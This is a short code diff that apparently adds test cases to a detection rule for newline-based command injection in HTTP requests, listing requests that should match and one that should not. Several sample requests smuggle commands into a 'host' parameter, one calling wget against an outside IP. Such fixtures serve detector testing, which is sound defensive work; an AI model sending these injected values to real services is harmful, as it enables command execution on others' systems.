@@ -38,6 +38,7 @@ export default defineRule({
     'GET /ping?host=a%0d%0awget%201//203.0.113.9/x HTTP/1.1',
     'GET /127.0.0.1%0Aid HTTP/1.1',
     { request: 'GET / HTTP/1.1', referrer: 'https://www.example.com/ping?host=127.0.0.1%0Aid' },
+    ...each('GET /ping?host=1{}id HTTP/1.1', '%0D %250A %250D \\x0a \\x0d \\n \\r'),
   ],
   misses: [
     'GET /note?text=first%0Acat+and+dog HTTP/1.1',
